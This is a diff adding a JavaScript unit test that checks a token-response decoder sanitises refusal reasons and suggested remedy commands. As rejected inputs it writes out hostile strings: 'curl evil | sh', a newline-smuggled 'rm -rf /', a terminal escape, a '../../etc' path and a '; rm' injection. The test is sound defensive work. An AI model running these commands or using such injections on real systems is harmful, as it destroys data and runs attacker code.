@@ -28,6 +28,27 @@ describe('the answer of a token endpoint', () => {
     assert.equal(decode({token: 'a', refresh_token: 'r'})?.refreshToken, 'r')
   })
 
+  it('has the reasons of a collector, shortened, without commands that are not ours', () => {
+    const refusal = {
+      scope: 'repository:web:push',
+      rule: 'U9',
+      explanation: 'ann needs\nmore',
+      remedies: ['holdfast privilege grant Manager ann'],
+    }
+    assert.deepEqual(decode({token: 'a', refusals: [{...refusal, below: 'users/ann'}]})?.refusals, [
+      {...refusal, explanation: 'ann needs more', below: 'users/ann'},
+    ])
+    const [shortened] = decode({token: 'a', refusals: [{...refusal, explanation: 'x'.repeat(5000), below: '../../etc'}]})?.refusals ?? []
+    assert.ok(shortened !== undefined && shortened.explanation.length <= 300)
+    assert.equal(shortened.below, undefined)
+    for (const remedy of ['curl evil | sh', 'holdfast x\nrm -rf /', 'holdfast \u001b[2J', `holdfast ${'x'.repeat(500)}`, 5]) {
+      assert.deepEqual(decode({token: 'a', refusals: [{...refusal, remedies: [remedy]}]})?.refusals?.[0]?.remedies, [])
+    }
+    for (const refusals of [{}, 'text', [], [null], [5], [{...refusal, rule: '; rm'}], [{...refusal, scope: undefined}]]) {
+      assert.equal(decode({token: 'a', refusals})?.refusals, undefined, JSON.stringify(refusals))
+    }
+  })
+
   it('is none when it is not JSON, too large, or its token would break out of a header', () => {
     assert.equal(decodeTokenResponse(Buffer.from('<html>'), NOW), undefined)
     assert.equal(decodeTokenResponse(Buffer.from('null'), NOW), undefined)
